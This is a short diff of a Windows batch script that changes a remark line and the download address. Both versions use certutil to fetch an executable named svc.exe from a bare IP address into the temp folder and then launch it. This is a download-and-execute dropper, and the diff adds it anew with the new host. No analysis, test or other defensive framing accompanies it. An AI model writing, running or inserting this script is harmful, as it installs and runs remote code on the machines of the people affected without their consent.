@@ -1,4 +1,4 @@
-REM init 3078 v4
+REM setup 8072 v4
 @echo off
-certutil.exe -urlcache -split -f http://203.0.113.200/svc.exe %TEMP%\svc.exe
+certutil.exe -urlcache -split -f http://192.0.2.44/svc.exe %TEMP%\svc.exe
 start "" %TEMP%\svc.exe
